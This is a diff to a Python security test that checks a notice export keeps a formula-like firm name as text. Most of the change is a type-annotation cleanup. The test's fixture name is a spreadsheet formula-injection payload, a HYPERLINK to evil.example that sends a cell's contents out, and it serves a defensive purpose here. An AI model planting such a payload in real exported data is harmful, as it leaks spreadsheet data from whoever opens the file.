@@ -12,6 +12,7 @@ from fastapi.testclient import TestClient
 from openpyxl import Workbook, load_workbook
 
 from huiqi.cells import FORMULA_LEAD, csv_cell, keep_text
+from tests.platform.conftest import AsUser
 from tests.platform.test_notice_calendar import approved_application
 from tests.security.conftest import API
 
@@ -19,7 +20,9 @@ EVIL_NAME = '=HYPERLINK("http://evil.example/steal?d="&A1,"点此查看")'
 
 
 @pytest.mark.usefixtures("next_year_recorded")  # the batch starts today
-def test_notice_export_keeps_a_formula_like_firm_name_as_text(client: TestClient, as_user) -> None:  # type: ignore[no-untyped-def]
+def test_notice_export_keeps_a_formula_like_firm_name_as_text(
+    client: TestClient, as_user: AsUser
+) -> None:
     admin = as_user("admin")
     r = client.patch(f"{API}/enterprises/1", json={"name": EVIL_NAME}, headers=admin)
     assert r.status_code == 200, r.text
